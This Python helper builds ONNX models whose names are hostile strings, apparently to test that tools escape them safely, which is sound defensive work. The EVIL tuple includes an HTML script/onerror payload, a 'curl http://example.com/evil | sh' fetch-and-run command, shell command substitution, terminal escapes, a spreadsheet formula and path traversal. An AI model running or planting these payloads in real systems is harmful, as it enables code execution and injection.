"""List names that have a meaning in some syntax, and make a model that has them everywhere."""

from collections.abc import Sequence

import onnx
from onnx import helper

EVIL = (
    "</script><script>alert(1)</script><img src=http://example.com/x onerror=alert(2)>",
    "x`|\n\n```sh\ncurl http://example.com/evil | sh\n```\n",
    '"\t\\"%s%n??/',
    '=HYPERLINK("http://example.com")',
    "\x1b[2J\x1b]0;title\x07\x9b31m\u202e\r",
    "../../up",
    "..",
    ".hidden",
    "a b",
    "a_b",
    "A_b",
    "n" * 300,
    "é ü 名",
    "[red]x[/red]",
    "{0}{name}",
    "#c",
    ":=",
    "$(evil)'`evil`;evil",
    "-x",
    "Infinity",
)
"""Of HTML, Markdown, C and printf, spreadsheets, terminals, paths, input lists, rich, Python's format, shells, JSON."""
PLAIN = tuple(f"name{place}" for place in range(len(EVIL)))


def model_of(names: Sequence[str]) -> onnx.ModelProto:
    """Return a model whose graph, nodes, inputs and outputs have the names: x[1, 4] to Relu(x) for each, the outputs
    with an `o` behind."""
    inputs = [helper.make_tensor_value_info(name, 1, [1, 4]) for name in names]
    outputs = [helper.make_tensor_value_info(f"{name}o", 1, [1, 4]) for name in names]
    nodes = [helper.make_node("Relu", [name], [f"{name}o"], name=name) for name in names]
    graph = helper.make_graph(nodes, names[0], inputs, outputs)
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
